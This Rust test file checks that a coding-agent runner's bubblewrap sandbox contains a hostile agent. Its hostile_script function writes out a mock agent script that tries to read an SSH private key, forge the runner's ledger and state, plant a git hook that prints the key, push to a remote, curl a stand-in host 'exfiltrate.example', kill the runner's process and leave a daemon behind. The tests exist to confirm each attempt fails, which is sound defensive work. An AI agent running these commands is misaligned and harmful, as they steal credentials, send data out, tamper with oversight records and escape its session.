@@ -1,0 +1,481 @@
+//! `--sandbox fs|strict` (issue 22): a hostile agent in bubblewrap cannot write outside the
+//! worktree, read the user's keys, forge ralph's books, push, reach a host off the allowlist,
+//! signal ralph or leave a daemon; the process-tree cases hold inside the sandbox; a token the
+//! agent refreshes in its state directory is there afterwards; a sandbox that cannot be built
+//! stops the run before the first iteration.
+//!
+//! bwrap comes from `scripts/install-test-deps.sh` (Debian's `bubblewrap`). Without a working
+//! bwrap these tests fail under `CI=true`, and say they were skipped otherwise.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::path::Path;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use serde_json::{json, Value};
+
+use crate::common::{prd_with_stories, text, TestEnv};
+use crate::fault_injection::wait_no_processes;
+
+/// The fake private key planted in the test's HOME.
+const FAKE_KEY: &str = "FAKE-ED25519-KEY-3f9c2a7d-never-print-me";
+
+/// Whether bwrap can build a sandbox here: `true` to go on; `false` (printed) to skip outside
+/// CI. Panics under CI, naming the install script.
+fn bwrap_or_skip(test: &str) -> bool {
+    let works = std::process::Command::new("bwrap")
+        .args([
+            "--ro-bind",
+            "/",
+            "/",
+            "--unshare-pid",
+            "--unshare-net",
+            "--",
+            "true",
+        ])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    if works {
+        return true;
+    }
+    assert!(
+        !crate::support_model::in_ci(),
+        "{test} needs bubblewrap (`bwrap`) able to build a sandbox: run scripts/install-test-deps.sh"
+    );
+    eprintln!("skipping {test}: bubblewrap (`bwrap`) is missing or cannot build a sandbox here (run scripts/install-test-deps.sh)");
+    false
+}
+
+/// A loopback HTTP server that stands in for the internet: counts the connections it gets.
+fn loopback_server() -> (u16, Arc<AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let h = hits.clone();
+    std::thread::spawn(move || {
+        for mut conn in listener.incoming().flatten() {
+            h.fetch_add(1, Ordering::SeqCst);
+            let mut buf = [0u8; 1024];
+            let _ = conn.set_read_timeout(Some(Duration::from_millis(200)));
+            let _ = conn.read(&mut buf);
+            let _ = conn.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nleaked");
+        }
+    });
+    (port, hits)
+}
+
+/// The hostile agent: every attempt prints what happened, then it does the story's work.
+fn hostile_script(port: u16) -> String {
+    format!(
+        r#"#!/bin/bash
+echo "attempt home: $(echo x > "$HOME/x" 2>&1 && echo wrote)"
+echo "attempt etc: $(echo x > /etc/ralph-sandbox-test-x 2>&1 && echo wrote)"
+echo "attempt key: $(cat "$HOME/.ssh/id_ed25519" 2>&1)"
+echo "attempt ledger: $(echo '{{"forged":true}}' >> .ralph/ledger.jsonl 2>&1 && echo wrote)"
+echo "attempt state: $(sed -i 's/"iteration"/"forged"/' .ralph/state.json 2>&1 && echo wrote)"
+echo "attempt hook: $(echo 'cat ~/.ssh/id_ed25519' > .git/hooks/post-commit 2>&1 && echo wrote)"
+echo "attempt push: $(git push -q origin HEAD:refs/heads/stolen 2>&1 && echo PUSH-SUCCEEDED)"
+echo "attempt net direct: $(curl -s --noproxy '*' --max-time 3 http://127.0.0.1:{port}/ 2>&1)"
+echo "attempt net proxy: $(curl -s --noproxy '' --max-time 3 -x http://127.0.0.1:3128 http://127.0.0.1:{port}/ 2>&1)"
+echo "attempt net name: $(curl -s --max-time 3 http://exfiltrate.example/ 2>&1)"
+echo "attempt kill: $(kill -KILL "$RALPH_VICTIM_PID" 2>&1 && echo KILL-SUCCEEDED)"
+setsid nohup sleep 300 >/dev/null 2>&1 &
+echo "attempt daemon: left"
+echo done > done.txt
+python3 - <<'PY'
+import json
+p = json.load(open("prd.json"))
+p["userStories"][0]["passes"] = True
+open("prd.json", "w").write(json.dumps(p, indent=2) + "\n")
+PY
+"#
+    )
+}
+
+/// Runs the hostile agent under `--sandbox mode` and checks that every attempt failed.
+fn hostile_run(mode: &str) {
+    let mut prd = prd_with_stories(1);
+    prd["userStories"][0]["verify"] = json!("test -f done.txt");
+    let env = TestEnv::new(&prd);
+    std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir .ssh");
+    std::fs::write(env.home.join(".ssh/id_ed25519"), format!("{FAKE_KEY}\n")).expect("key");
+    let bare = env.root.path().join("remote.git");
+    let init = std::process::Command::new("git")
+        .args(["init", "-q", "--bare"])
+        .arg(&bare)
+        .status()
+        .expect("git init --bare");
+    assert!(init.success());
+    env.git(&["remote", "add", "origin", &bare.display().to_string()]);
+    let (port, hits) = loopback_server();
+    let agent = env.root.path().join("hostile.sh");
+    std::fs::write(&agent, hostile_script(port)).expect("agent");
+    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .expect("chmod");
+    // `exec` keeps the shell's pid: ralph's own pid reaches the agent as RALPH_VICTIM_PID.
+    let line = format!(
+        "export RALPH_VICTIM_PID=$$; exec {} run --agent exec --agent-cmd {} --sandbox {mode} --max-iter 1 -v",
+        crate::common::ralph_bin(),
+        agent.display()
+    );
+    let out = std::process::Command::new("sh")
+        .args(["-c", &line])
+        .current_dir(&env.repo)
+        .env_clear()
+        .envs(env.envs())
+        .env("RALPH_GIT_TOKEN", "push-token-never-inside")
+        .output()
+        .expect("run ralph");
+    let all = text(&out);
+    let left = wait_no_processes(&env.script, Duration::from_secs(3));
+    // Whatever happened, nothing of this test keeps running.
+    for (pid, _) in &left {
+        let _ = nix::sys::signal::kill(
+            nix::unistd::Pid::from_raw(*pid),
+            nix::sys::signal::Signal::SIGKILL,
+        );
+    }
+    let _ = std::fs::remove_file("/etc/ralph-sandbox-test-x");
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "ralph survived and finished: {all}"
+    );
+    for attempt in ["home", "etc", "ledger", "state", "hook"] {
+        let shown = all
+            .lines()
+            .find(|l| l.contains(&format!("attempt {attempt}:")))
+            .unwrap_or_else(|| panic!("no `attempt {attempt}` line: {all}"));
+        assert!(
+            !shown.ends_with("wrote") || attempt == "home",
+            "{shown}\n{all}"
+        );
+    }
+    assert!(
+        !env.home.join("x").exists(),
+        "the agent wrote into the host's HOME: {all}"
+    );
+    assert!(!Path::new("/etc/ralph-sandbox-test-x").exists(), "{all}");
+    assert!(!env.path(".git/hooks/post-commit").exists(), "{all}");
+    assert!(
+        !all.contains("PUSH-SUCCEEDED") && !all.contains("KILL-SUCCEEDED"),
+        "{all}"
+    );
+    // The key is nowhere: not in the output, the ledger or the transcripts.
+    assert!(
+        !all.contains(FAKE_KEY),
+        "the fake key leaked to the output: {all}"
+    );
+    let books = walk_text(&env.path(".ralph"));
+    assert!(
+        !books.contains(FAKE_KEY),
+        "the fake key is in ralph's books"
+    );
+    assert!(
+        !books.contains("push-token-never-inside"),
+        "the push token reached the agent"
+    );
+    // The books are intact: one record, written by ralph, for this sandbox mode.
+    let ledger = env.ledger();
+    assert_eq!(ledger.len(), 1, "{ledger:?}");
+    assert!(!env.read(".ralph/ledger.jsonl").contains("forged"));
+    assert!(!env.read(".ralph/state.json").contains("forged"));
+    assert_eq!(ledger[0]["outcome"], "story_passed", "{all}");
+    assert_eq!(ledger[0]["sandbox"], mode, "{:?}", ledger[0]);
+    // Nothing reached the remote.
+    let refs = std::process::Command::new("git")
+        .args(["--git-dir", &bare.display().to_string(), "for-each-ref"])
+        .output()
+        .expect("for-each-ref");
+    assert!(
+        refs.stdout.is_empty(),
+        "the agent pushed: {}",
+        String::from_utf8_lossy(&refs.stdout)
+    );
+    assert!(
+        left.is_empty(),
+        "processes outlived the iteration: {left:?}"
+    );
+    if mode == "strict" {
+        assert_eq!(
+            hits.load(Ordering::SeqCst),
+            0,
+            "the loopback server was reached: {all}"
+        );
+        let refused: Vec<&str> = ledger[0]["refused_hosts"]
+            .as_array()
+            .map(|a| a.iter().filter_map(Value::as_str).collect())
+            .unwrap_or_default();
+        assert!(
+            refused.contains(&"exfiltrate.example:80")
+                && refused.contains(&format!("127.0.0.1:{port}").as_str()),
+            "refused connections are named in the record: {refused:?}"
+        );
+        let show = text(&env.ralph(&["show", "1"]));
+        assert!(
+            show.lines()
+                .any(|l| l.contains("refused connections:") && l.contains("exfiltrate.example:80")),
+            "`ralph show` names the refused host: {show}"
+        );
+        let report = text(&env.ralph(&["report", "--markdown"]));
+        assert!(
+            report.contains("### Refused connections") && report.contains("exfiltrate.example:80"),
+            "the report lists the refused hosts: {report}"
+        );
+    }
+}
+
+/// Every text file under `dir`, concatenated.
+fn walk_text(dir: &Path) -> String {
+    let mut all = String::new();
+    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            all.push_str(&walk_text(&path));
+        } else if let Ok(t) = std::fs::read_to_string(&path) {
+            all.push_str(&t);
+        }
+    }
+    all
+}
+
+#[test]
+fn a_hostile_agent_is_contained_by_sandbox_fs() {
+    if bwrap_or_skip("a_hostile_agent_is_contained_by_sandbox_fs") {
+        hostile_run("fs");
+    }
+}
+
+#[test]
+fn a_hostile_agent_is_contained_by_sandbox_strict() {
+    if bwrap_or_skip("a_hostile_agent_is_contained_by_sandbox_strict") {
+        hostile_run("strict");
+    }
+}
+
+/// The agent (the fake claude) refreshes its token in `~/.claude` inside the sandbox: the host's
+/// copy has the new token after the iteration.
+#[test]
+fn a_token_refreshed_in_the_state_directory_survives_the_iteration() {
+    if !bwrap_or_skip("a_token_refreshed_in_the_state_directory_survives_the_iteration") {
+        return;
+    }
+    let env = TestEnv::new(&prd_with_stories(1));
+    std::fs::create_dir_all(env.home.join(".claude")).expect("mkdir");
+    std::fs::write(
+        env.home.join(".claude/.credentials.json"),
+        "{\"token\":\"old\"}\n",
+    )
+    .expect("credentials");
+    let creds = env
+        .home
+        .join(".claude/.credentials.json")
+        .display()
+        .to_string();
+    env.script(&json!({"invocations": [[
+        {"claude_init": {}},
+        {"write_file": {"path": creds, "content": "{\"token\":\"refreshed\"}\n"}},
+        {"write_file": {"path": "file-1.txt", "content": "done\n"}},
+        {"set_passes": {"id": "US-001", "passes": true}},
+        {"claude_result": {"text": "done"}}
+    ]]}));
+    let root = env.root.path().display().to_string();
+    let out = env.ralph(&[
+        "run",
+        "--max-iter",
+        "1",
+        "--sandbox",
+        "fs",
+        "--sandbox-writable",
+        &root,
+    ]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    assert_eq!(
+        std::fs::read_to_string(env.home.join(".claude/.credentials.json")).expect("read"),
+        "{\"token\":\"refreshed\"}\n",
+        "the refreshed token must land on the host's copy"
+    );
+    assert_eq!(env.ledger()[0]["sandbox"], "fs");
+}
+
+/// A sandbox that cannot be built (no bwrap on PATH) stops the run before the first iteration,
+/// saying why; the agent never runs unsandboxed.
+#[test]
+fn a_sandbox_that_cannot_be_built_stops_the_run_before_the_agent() {
+    let env = TestEnv::new(&prd_with_stories(1));
+    env.script(&json!({"invocations": [[{"claude_result": {"text": "ran"}}]]}));
+    // PATH: the fake agent and git, but no bwrap.
+    let git_dir = env.root.path().join("gitonly");
+    std::fs::create_dir_all(&git_dir).expect("mkdir");
+    let git = which_git();
+    std::os::unix::fs::symlink(&git, git_dir.join("git")).expect("symlink git");
+    let out = env
+        .ralph_cmd(&["run", "--max-iter", "1", "--sandbox", "strict"])
+        .env(
+            "PATH",
+            format!("{}:{}", env.bin.display(), git_dir.display()),
+        )
+        .output()
+        .expect("ralph");
+    let all = text(&out);
+    assert_eq!(out.status.code(), Some(1), "{all}");
+    assert!(
+        all.contains("--sandbox strict cannot be built")
+            && all.contains("bubblewrap (`bwrap`) is not installed"),
+        "{all}"
+    );
+    assert_eq!(env.agent_calls(), 0, "the agent ran: {all}");
+    assert!(env.ledger().is_empty());
+}
+
+fn which_git() -> std::path::PathBuf {
+    for dir in ["/usr/bin", "/usr/local/bin", "/bin"] {
+        let p = Path::new(dir).join("git");
+        if p.exists() {
+            return p;
+        }
+    }
+    panic!("git not found");
+}
+
+/// The process-tree cases (interrupts, timeouts, grandchildren that ignore SIGTERM, hold the
+/// pipe or leave with setsid) with `--sandbox fs` and `strict`: same exit codes, same records,
+/// no survivor.
+#[test]
+fn process_trees_hold_inside_the_sandbox() {
+    if !bwrap_or_skip("process_trees_hold_inside_the_sandbox") {
+        return;
+    }
+    let seed = fastrand::u64(..);
+    let mut failures = Vec::new();
+    for n in 0..10u64 {
+        let mode = if n % 2 == 0 { "fs" } else { "strict" };
+        if let Err(e) = crate::process_trees::run_case_in(seed, n, Some(mode)) {
+            failures.push(format!("case {n} ({mode}, RALPH_TREES_SEED={seed}): {e}"));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// The textkit stories pass with `--sandbox strict` as without it, with the real claude CLI
+/// against the scripted model on the host's loopback (reached through the allowlist:
+/// `ANTHROPIC_BASE_URL`'s host).
+#[test]
+fn real_claude_passes_the_textkit_stories_under_sandbox_strict() {
+    let test = "real_claude_passes_the_textkit_stories_under_sandbox_strict";
+    if !bwrap_or_skip(test) {
+        return;
+    }
+    let Some(claude) = crate::support_model::claude_bin_or_skip(test) else {
+        return;
+    };
+    let fx = crate::real_claude::Fixture::textkit();
+    let scenario = crate::support_model::example_dir("textkit").join("scenario.json");
+    let out = fx.ralph_with_model(
+        &claude,
+        &["--max-iter", "6", "--sandbox", "strict"],
+        &scenario,
+        "ralph",
+    );
+    assert_eq!(out.status.and_then(|s| s.code()), Some(0), "{out}");
+    assert!(
+        fx.prd_passes().iter().all(|(_, p)| *p),
+        "{:?}",
+        fx.prd_passes()
+    );
+    let ledger = fx.ledger();
+    assert_eq!(ledger.len(), 3, "{ledger:#?}");
+    for r in &ledger {
+        assert_eq!(r["outcome"], "story_passed", "{r}");
+        assert_eq!(r["sandbox"], "strict", "{r}");
+    }
+}
+
+/// The same with the real codex CLI (its base URL comes from `$CODEX_HOME/config.toml`).
+#[test]
+fn real_codex_passes_the_textkit_stories_under_sandbox_strict() {
+    let test = "real_codex_passes_the_textkit_stories_under_sandbox_strict";
+    if !bwrap_or_skip(test) {
+        return;
+    }
+    let Some(codex) = crate::support_model::real_cli_or_skip("codex", test) else {
+        return;
+    };
+    let fx = crate::real_codex::Fixture::textkit();
+    let scenario = crate::support_model::example_dir("textkit").join("scenario.json");
+    let out = fx.ralph_with_model(
+        &codex,
+        &[
+            "run",
+            "--agent",
+            "codex",
+            "--max-iter",
+            "6",
+            "--sandbox",
+            "strict",
+        ],
+        &scenario,
+        "ralph",
+    );
+    assert_eq!(out.status.and_then(|s| s.code()), Some(0), "{out}");
+    assert!(
+        fx.prd_passes().iter().all(|(_, p)| *p),
+        "{:?}",
+        fx.prd_passes()
+    );
+    let ledger = crate::support_model::read_jsonl(&fx.repo.join(".ralph/ledger.jsonl"));
+    assert_eq!(ledger.len(), 3, "{ledger:#?}");
+    for r in &ledger {
+        assert_eq!(r["outcome"], "story_passed", "{r}");
+        assert_eq!(r["sandbox"], "strict", "{r}");
+    }
+}
+
+/// `ralph doctor` says whether bubblewrap works; a sandbox ralph.toml or `RALPH_SANDBOX` asks
+/// for that cannot be built makes it NOT ready (exit 1), naming the fix.
+#[test]
+fn doctor_reports_whether_the_sandbox_can_be_built() {
+    if !bwrap_or_skip("doctor_reports_whether_the_sandbox_can_be_built") {
+        return;
+    }
+    let env = TestEnv::new(&prd_with_stories(1));
+    let out = env
+        .ralph_cmd(&["doctor", "--agent", "claude", "--json"])
+        .env("RALPH_SANDBOX", "strict")
+        .output()
+        .expect("doctor");
+    let doc: Value = serde_json::from_slice(&out.stdout).expect("doctor --json");
+    assert_eq!(doc["sandbox"]["configured"], "strict", "{doc}");
+    assert!(
+        doc["sandbox"]["bwrap"]
+            .as_str()
+            .is_some_and(|p| p.ends_with("bwrap")),
+        "{doc}"
+    );
+    assert!(doc["sandbox"]["error"].is_null(), "{doc}");
+
+    let git_dir = env.root.path().join("gitonly");
+    std::fs::create_dir_all(&git_dir).expect("mkdir");
+    std::os::unix::fs::symlink(which_git(), git_dir.join("git")).expect("symlink git");
+    let out = env
+        .ralph_cmd(&["doctor", "--agent", "claude"])
+        .env("RALPH_SANDBOX", "fs")
+        .env(
+            "PATH",
+            format!("{}:{}", env.bin.display(), git_dir.display()),
+        )
+        .output()
+        .expect("doctor");
+    let all = text(&out);
+    assert_eq!(out.status.code(), Some(1), "{all}");
+    assert!(
+        all.contains("bubblewrap (`bwrap`) is not installed")
+            && all.contains("apt-get install bubblewrap"),
+        "{all}"
+    );
+    assert!(all.contains("NOT ready"), "{all}");
+}
